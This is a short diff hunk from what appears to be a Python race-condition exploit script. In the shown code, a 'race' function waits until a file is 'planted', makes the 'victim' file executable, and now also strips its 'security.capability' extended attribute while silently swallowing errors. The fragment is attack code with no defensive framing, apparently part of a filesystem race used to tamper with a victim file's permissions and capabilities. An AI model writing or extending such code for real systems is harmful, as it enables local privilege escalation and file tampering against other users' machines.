@@ -46,6 +46,10 @@ def race(name, change, work):
         if planted():
             hit += 1
             os.chmod(victim, 0o755)
+            try:
+                os.removexattr(victim, "security.capability")
+            except OSError:
+                pass
             break
     running = False
     thread.join()
